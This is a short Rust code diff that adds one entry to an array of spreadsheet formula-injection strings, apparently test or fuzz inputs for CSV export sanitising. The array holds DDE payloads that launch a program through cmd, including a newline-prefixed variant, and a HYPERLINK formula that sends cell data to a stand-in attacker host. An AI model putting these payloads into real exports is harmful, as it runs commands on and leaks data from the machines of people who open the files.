@@ -36,7 +36,8 @@ const BEGINNINGS: [&str; 22] = [
 ];
 
 /// What is done there.
-const DEEDS: [&str; 32] = [
+const DEEDS: [&str; 33] = [
+    "1\n*cmd|' /C calc'!A0",
     "1+1",
     "cmd|' /C calc'!A0",
     "HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
